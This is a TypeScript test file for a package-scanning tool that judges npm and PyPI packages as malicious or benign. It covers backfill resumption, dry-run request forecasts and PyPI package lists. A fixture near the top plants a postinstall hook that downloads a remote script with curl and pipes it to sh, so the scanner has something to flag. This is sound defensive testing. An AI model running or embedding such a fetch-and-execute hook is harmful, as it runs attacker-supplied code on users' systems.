import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type NpmStandIn, startNpmStandIn } from '@weir/registries/npm/stand-in';
import { startPypiStandIn } from '@weir/registries/pypi/stand-in';
import { startTestPostgres, type TestPostgres } from '@weir/store/testing';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from 'vitest';
import { startWeir, type WeirProcess } from '../testing/run-weir.ts';

const PACKAGES = 40;
const EVIL = { scripts: { postinstall: 'curl http://files.example/a.sh | sh' } };

const dataDir = mkdtempSync(join(tmpdir(), 'weir-backfill-'));
let postgres: TestPostgres;
let databaseUrl = '';
let standIn: NpmStandIn;

beforeAll(async () => {
  postgres = await startTestPostgres();
});
afterAll(async () => {
  await postgres[Symbol.asyncDispose]();
  rmSync(dataDir, { recursive: true });
});
beforeEach(async () => {
  databaseUrl = await postgres.createDatabase();
  standIn = await startNpmStandIn();
  for (let at = 1; at < PACKAGES; at++) standIn.world.publish([{ name: `p${at}`, version: '1.0.0' }]);
  standIn.world.publish([{ name: 'evil', version: '1.0.0', manifest: EVIL }]);
});
afterEach(() => standIn[Symbol.asyncDispose]());

function weir(args: readonly string[], env: Readonly<Record<string, string>> = {}): WeirProcess {
  return startWeir(args, {
    HOME: dataDir,
    WEIR_DATA: dataDir,
    WEIR_HTTP_PORT: '0',
    DATABASE_URL: databaseUrl,
    WEIR_NPM_FEED_URL: standIn.feedUrl,
    WEIR_NPM_DOCUMENTS_URL: standIn.url,
    ...env,
  });
}

const EVERYTHING = `1 malicious, ${PACKAGES - 1} benign`;

describe('weir backfill npm --all', () => {
  it('forecasts, judges every package, and goes on where it was interrupted', async () => {
    const first = weir(['backfill', 'npm', '--all']);
    await vi.waitFor(() => expect(standIn.requestCounts.document).toBeGreaterThan(4), 30_000);
    first.kill('SIGINT');
    const stopped = await first.ended;
    const asked = standIn.requestCounts.document;
    const second = await weir(['backfill', 'npm', '--all']).ended;
    const third = await weir(['backfill', 'npm', '--all']).ended;

    expect(stopped.stderr).toContain(
      `${PACKAGES} packages, ${PACKAGES * 2} requests, which today's allowance`,
    );
    expect(stopped.stdout).toContain('stopped, the same command goes on from here: ');
    expect(second.status).toBe(0);
    expect(second.stderr).toMatch(/\d+ of 40 are done; \d+ packages, \d+ requests/);
    expect(third).toMatchObject({ status: 0, stdout: expect.stringContaining(EVERYTHING) });
    expect(third.stdout).toMatch(/^malicious {2}critical {2}\d+ {2}pkg:npm\/evil@1\.0\.0$/m);
    // What was in hand when it was stopped is asked for again; what was done is not.
    expect(standIn.requestCounts.document - asked).toBeLessThan(PACKAGES * 2);
  });
});

describe('weir backfill npm --since', () => {
  it('judges what changed after the position', async () => {
    const since = String(standIn.world.changes.lastSeq);
    for (const name of ['p3', 'new']) standIn.world.publish([{ name, version: '2.0.0' }]);

    const run = await weir(['backfill', 'npm', '--since', since]).ended;

    expect(run).toMatchObject({ status: 0, stdout: expect.stringContaining('2 benign\n') });
    expect(run.stderr).toContain('2 packages, 4 requests');
    expect(standIn.requestCounts.document).toBe(2);
  });
});

describe('weir backfill npm --dry-run', () => {
  it.each([[['--all']], [['--since', '1']]])('counts the packages of %j, and reads none', async (which) => {
    const run = await weir(['backfill', 'npm', ...which, '--dry-run']).ended;

    expect(run).toMatchObject({ status: 0, stderr: '' });
    expect(run.stdout).toBe("40 packages, 80 requests, which today's allowance covers\n");
    expect(standIn.requestCounts.document).toBe(0);
  });

  it('says what an allowance that is too small means', async () => {
    const run = await weir(['backfill', 'npm', '--all', '--dry-run'], { WEIR_REQUESTS_PER_MONTH: '100' })
      .ended;

    expect(run.stdout).toMatch(/^40 packages, 80 requests, at \d+ a day until \d{4}-\d\d-\d\d\n$/);
  });

  it('wants to be told which', async () => {
    const none = await weir(['backfill', 'npm']).ended;
    const both = await weir(['backfill', 'npm', '--all', '--since', '1']).ended;

    expect(none).toMatchObject({ status: 2, stderr: expect.stringContaining('exactly one of') });
    expect(both.status).toBe(2);
  });
});

describe('weir backfill pypi --packages', () => {
  it('judges every file of a release from the index that pip is told to use', async () => {
    await using pypi = await startPypiStandIn();
    const files = ['acme_tool-1.2.0.tar.gz', 'acme_tool-1.2.0-py3-none-any.whl'];
    pypi.world.upload({ name: 'Acme.Tool', version: '1.2.0', files });
    pypi.world.upload({ name: 'other', version: '2.0' });
    const list = join(dataDir, 'pypi.txt');
    writeFileSync(list, '# ours\nAcme.Tool==1.2.0\nother\nnone==1\n');

    const run = await weir(['backfill', 'pypi', '--packages', list], {
      PIP_INDEX_URL: `${pypi.url}/simple`,
    }).ended;

    expect(run.stdout).toMatch(/^pkg:pypi\/acme-tool@1\.2\.0 /m);
    expect(run.stdout).toMatch(/^pkg:pypi\/other@2\.0 /m);
    expect(run.stdout).toMatch(/^none==1 +none: the index knows no project none \(HTTP 404\)/m);
    expect(run.status).toBe(1);
    expect(pypi.requestCounts.file).toBe(3);
  });
});
